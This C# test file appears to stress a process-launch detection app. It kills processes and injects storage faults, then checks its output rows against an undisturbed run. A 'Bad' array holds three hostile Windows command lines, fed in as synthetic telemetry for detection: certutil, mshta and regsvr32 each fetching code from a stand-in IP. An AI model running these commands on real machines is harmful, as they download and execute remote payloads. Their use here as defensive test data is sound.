using System.Diagnostics;
using System.Globalization;
using Changeling.Events;
using Changeling.Functions.Tests.App;
using Changeling.HostStandIn;
using Changeling.TestSupport;
using static Changeling.TestSupport.Telemetry;

namespace Changeling.Functions.Tests.EndToEnd;

/// <summary>
/// Histories with real processes, real kills, Azurite, and a proxy that delays, cuts and refuses requests to the table. Each event
/// partition is a history of its own; rows are held against a plain recount of its messages, detections against a quiet run.
/// </summary>
public class ProcessHistoriesTests(AppFixture app, ITestOutputHelper output) : IClassFixture<AppFixture>
{
    /// <summary>Histories in one run. More of them: CHANGELING_PROCESS_HISTORIES=25, see docs/testing.md.</summary>
    private static readonly int HistoriesARun =
        int.TryParse(Environment.GetEnvironmentVariable("CHANGELING_PROCESS_HISTORIES"), out var count)
        ? count
        : 6;

    private static Task<Quiet>? _quiet;

    private static readonly (string Child, string CommandLine)[] Bad =
    [
        ("certutil.exe", @"certutil.exe -urlcache -split -f http://198.51.100.7/a.txt C:\Users\Public\a.exe"),
        ("mshta.exe", "mshta.exe http://198.51.100.7/x.hta"),
        ("regsvr32.exe", "regsvr32.exe /s /n /u /i:http://198.51.100.7/x.sct scrobj.dll"),
    ];

    [Fact(Timeout = 300_000)]
    public async Task Histories_of_kills_and_storage_faults_leave_the_rows_of_a_plain_recount()
    {
        var started = Stopwatch.GetTimestamp();
        var quiet = await QuietAsync(TestContext.Current.CancellationToken);

        var (kills, faults) = await DisturbedAsync(1, quiet, new Killer(every: 5, seed: 1, max: 3));

        Assert.True(kills == 3 && faults >= 10, $"{kills} kills and {faults} faults are too few to show anything");
        output.WriteLine(
            $"{HistoriesARun} histories, {quiet.Messages.Values.Sum(m => m.Count)} messages, {kills} kills, {faults} faults of the table service, in {Stopwatch.GetElapsedTime(started).TotalSeconds:0} s");
    }

    /// <summary>Manual run: CHANGELING_SOAK_MINUTES=10, see docs/testing.md.</summary>
    [Fact(Explicit = true)]
    public async Task Minutes_of_kills_and_storage_faults_leave_the_rows_of_a_plain_recount()
    {
        var minutes = double.Parse(Environment.GetEnvironmentVariable("CHANGELING_SOAK_MINUTES") ?? "10", CultureInfo.InvariantCulture);
        var (started, runs, kills, faults) = (Stopwatch.GetTimestamp(), 0, 0, 0);
        var quiet = await QuietAsync(TestContext.Current.CancellationToken);
        while (Stopwatch.GetElapsedTime(started).TotalMinutes < minutes)
        {
            var (killed, faulty) = await DisturbedAsync(100 + runs, quiet, new Killer(every: 10, seed: runs));
            (runs, kills, faults) = (runs + 1, kills + killed, faults + faulty);
            output.WriteLine(
                $"{runs * HistoriesARun} histories, {kills} kills, {faults} faults, in {Stopwatch.GetElapsedTime(started).TotalMinutes:0.0} min");
        }
    }

    [Fact(Timeout = 300_000)]
    public async Task A_store_that_is_down_fails_attempts_and_the_app_recovers_without_a_restart()
    {
        var seconds = double.Parse(Environment.GetEnvironmentVariable("CHANGELING_OUTAGE_SECONDS") ?? "5", CultureInfo.InvariantCulture);
        var baseline = AzuriteFixture.UniqueName("down");
        var quiet = await QuietAsync(TestContext.Current.CancellationToken);
        var (down, process) = (0L, 0);
        var resident = new List<long>();
        await using var proxy = await FaultProxy.StartAsync(app.ConnectionString, (isTransaction, number) =>
        {
            if (isTransaction && number == 5) Interlocked.CompareExchange(ref down, Stopwatch.GetTimestamp(), 0);
            return Volatile.Read(ref down) is var since and not 0 && Stopwatch.GetElapsedTime(since).TotalSeconds < seconds
                ? TableFault.Answer503
                : TableFault.None;
        });
        await using var scoring = await app.StartAsync(baseline, o => WithProxy(o, proxy) with
        {
            MaxEventBatchSize = 20,
            RetryIntervalFactor = 0.02,
            Arrives = _ =>
            {
                lock (resident)
                {
                    if (Volatile.Read(ref down) != 0) resident.Add(Resident(process));
                }

                return true;
            },
        });
        process = scoring.Host.ProcessId!.Value;
        var before = Resident(process);

        var run = await scoring.Host.RunAsync(Feeds(quiet.Messages), null, TestContext.Current.CancellationToken);

        var after = Resident(process);
        Assert.Equal((0, 0), (run.Restarts, run.LostBatches));
        Assert.True(run.FailedAttempts > 0, "the outage hit nothing");
        Assert.Equal(process, scoring.Host.ProcessId);
        Assert.InRange(after - before, long.MinValue, 256L * 1024 * 1024);
        var (first, last) = (resident[resident.Count / 4], resident[^1]);
        Assert.InRange(last - first, long.MinValue, 128L * 1024 * 1024);
        await AssertSameAsync(baseline, quiet, scoring);
        output.WriteLine(
            $"down for {seconds} s: {run.FailedAttempts} failed attempts, resident {before / 1048576} MiB at start, {first / 1048576} a quarter of the answers into it, {last / 1048576} at the last answer");
    }

    private static long Resident(int process)
    {
        using var handle = Process.GetProcessById(process);
        return handle.WorkingSet64;
    }

    private static HostOptions WithProxy(HostOptions options, FaultProxy proxy) => options with
    {
        Settings = new Dictionary<string, string>(options.Settings) { ["Storage:ConnectionString"] = proxy.ConnectionString },
    };

    /// <summary>
    /// An undisturbed run, in batches of its own size. Small ones: the partitions wait for three places, and with a partition's whole
    /// history in one batch the last of 25 waits for its 24 predecessors, on a slow machine beyond the function timeout.
    /// </summary>
    private Task<Quiet> QuietAsync(CancellationToken cancellationToken)
    {
        // Tests of a class run one after the other: the first makes it for all.
        return _quiet ??= RunQuietAsync(cancellationToken);
    }

    private async Task<Quiet> RunQuietAsync(CancellationToken cancellationToken)
    {
        var messages = Histories();
        await using var scoring = await app.StartAsync(AzuriteFixture.UniqueName("quiet"), o => o with { MaxEventBatchSize = 4 });
        var run = await scoring.Host.RunAsync(Feeds(messages), null, cancellationToken);
        Assert.Equal((0, 0), (run.FailedAttempts, run.Restarts));
        return new Quiet(messages, scoring.Ids, PlainRows.Of(messages));
    }

    private async Task<(int Kills, int Faults)> DisturbedAsync(int seed, Quiet quiet, Killer killer)
    {
        var baseline = AzuriteFixture.UniqueName("history");
        var chance = new Random(seed);
        await using var proxy = await FaultProxy.StartAsync(app.ConnectionString, (isTransaction, _) =>
        {
            lock (chance) return chance.NextDouble() < (isTransaction ? 0.12 : 0.03) ? (TableFault)chance.Next(1, 8) : TableFault.None;
        });
        await using var scoring = await app.StartAsync(baseline, o => killer.Watching(WithProxy(o, proxy)) with
        {
            MaxEventBatchSize = 8 + chance.Next(20),
            RetryIntervalFactor = 0.01,
        });
        killer.Host = scoring.Host;

        var run = await scoring.Host.RunAsync(Feeds(quiet.Messages), null, TestContext.Current.CancellationToken);

        Assert.Equal((killer.Kills, 0), (run.Restarts, run.LostBatches));
        await AssertSameAsync(baseline, quiet, scoring);
        return (run.Restarts, proxy.Faults);
    }

    private async Task AssertSameAsync(string baseline, Quiet quiet, AppRun scoring)
    {
        Assert.NotEmpty(quiet.Ids);
        Assert.Equal(quiet.Ids, scoring.Ids);
        Assert.True(scoring.RepeatsAreEqual);
        Assert.Equal(quiet.Rows, await PlainRows.ReadAsync(app.ConnectionString, baseline));
    }

    /// <summary>
    /// Event partitions in each of which a parent gathers enough history that something new under it is rare, then ordinary and bad
    /// launches. Every run is of the same messages; only what happens to them differs.
    /// </summary>
    private static Dictionary<EventPartition, IReadOnlyList<TelemetryMessage>> Histories() =>
        Enumerable.Range(0, HistoriesARun).ToDictionary(
        p => new EventPartition("telemetry", p.ToString(CultureInfo.InvariantCulture)),
        p =>
            (IReadOnlyList<TelemetryMessage>)[.. Enumerable.Range(0, 52)
                .Select(i => Message(i, Body(new Random((p * 1000) + i), p, i), Some.Time.AddMinutes(i)))]);

    private static byte[] Body(Random chance, int partition, int message)
    {
        byte[] Launch(string child, string commandLine, int record) => Record(
            "services.exe", child, commandLine, Some.Time.AddMinutes(message), $"{{{partition}-{message}-{record}}}",
            $"ws-{chance.Next(6)}");

        byte[] Malicious(int record)
        {
            var (child, commandLine) = Bad[chance.Next(Bad.Length)];
            return Launch(child, commandLine, record);
        }

        return message < 12
            ? Many([.. Enumerable.Range(0, 150).Select(r => Launch("svchost.exe", @"C:\Windows\System32\svchost.exe -k netsvcs -p", r))])
            : Many([.. Enumerable.Range(0, chance.Next(1, 5)).Select(r => chance.Next(6) == 0
                ? Malicious(r)
                : Launch($"{(char)('g' + chance.Next(18))}service.exe", "service.exe", r))]);
    }

    private static List<PartitionFeed> Feeds(Dictionary<EventPartition, IReadOnlyList<TelemetryMessage>> messages) =>
        [.. messages.Select(p => new PartitionFeed(p.Key, p.Value.ToAsyncEnumerable()))];

    private sealed record Quiet(
        Dictionary<EventPartition, IReadOnlyList<TelemetryMessage>> Messages, SortedSet<string> Ids, SortedDictionary<string, string> Rows);
}
